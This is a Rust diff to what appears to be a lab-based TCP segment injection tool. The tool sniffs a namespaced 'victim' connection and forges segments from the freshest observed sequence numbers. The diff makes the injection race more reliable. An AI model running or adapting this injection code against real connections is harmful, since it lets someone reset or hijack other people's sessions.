@@ -8,6 +8,7 @@
 use std::{
     fmt, io,
     net::{IpAddr, Ipv4Addr, SocketAddr},
+    thread,
     time::{Duration, Instant},
 };
 
@@ -33,6 +34,8 @@ const TCP: usize = 20;
 const SNIFF_BUFFER: usize = 128 * 1024;
 /// How long to wait for traffic before asking the victim for some.
 const QUIET: Duration = Duration::from_millis(100);
+/// How long to listen for a segment at a time.
+const LISTEN: Duration = Duration::from_millis(20);
 
 /// Which segment to inject.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -97,7 +100,7 @@ fn attempt(
     let mut asked = Instant::now();
     let mut heard: Option<Seen> = None;
     while start.elapsed() < limit {
-        if let Some(seen) = wire.next(tuple)? {
+        if let Some(seen) = wire.newest(tuple)? {
             wire.send(&craft(segment, &seen, tuple))?;
             heard = Some(seen);
             sent += 1;
@@ -124,11 +127,8 @@ fn attempt(
 }
 
 fn established(victim: &Netns, tuple: &Tuple) -> io::Result<bool> {
-    let all = diag::connections(victim).map_err(io::Error::other)?;
-    let ours = |c: &Connection| {
-        c.local == SocketAddr::from(tuple.victim) && c.remote == SocketAddr::from(tuple.peer)
-    };
-    Ok(all.iter().any(|c| ours(c) && c.state == ESTABLISHED))
+    let state = diag::state(victim, tuple.victim.into(), tuple.peer.into());
+    Ok(state.map_err(io::Error::other)? == Some(ESTABLISHED))
 }
 
 /// The connection as the packets have it.
@@ -179,7 +179,8 @@ impl Wire {
             })?;
         let config = datalink::Config {
             read_buffer_size: SNIFF_BUFFER,
-            read_timeout: Some(Duration::from_millis(20)),
+            // Never wait inside: what counts is the newest frame, not the next one.
+            read_timeout: Some(Duration::ZERO),
             ..Default::default()
         };
         match datalink::channel(&interface, config)? {
@@ -192,21 +193,20 @@ impl Wire {
         }
     }
 
-    /// The next segment that the victim sent on this connection; `None` after a short silence.
-    fn next(&mut self, tuple: &Tuple) -> io::Result<Option<Seen>> {
-        let until = Instant::now() + Duration::from_millis(20);
-        while Instant::now() < until {
+    /// The newest segment that the victim sent on this connection; `None` after a short silence.
+    /// Older ones are passed over: their numbers are history.
+    fn newest(&mut self, tuple: &Tuple) -> io::Result<Option<Seen>> {
+        let until = Instant::now() + LISTEN;
+        let mut newest = None;
+        loop {
             match self.receiver.next() {
-                Ok(frame) => {
-                    if let Some(seen) = read(frame, tuple) {
-                        return Ok(Some(seen));
-                    }
-                }
-                Err(e) if e.kind() == io::ErrorKind::TimedOut => return Ok(None),
-                Err(e) => return Err(e),
+                Ok(frame) => newest = read(frame, tuple).or(newest),
+                Err(e) if e.kind() != io::ErrorKind::TimedOut => return Err(e),
+                Err(_) if newest.is_some() || Instant::now() > until => return Ok(newest),
+                // A sleep would be longer than the victim's peer takes to make the numbers old.
+                Err(_) => thread::yield_now(),
             }
         }
-        Ok(None)
     }
 
     fn send(&mut self, frame: &[u8]) -> io::Result<()> {
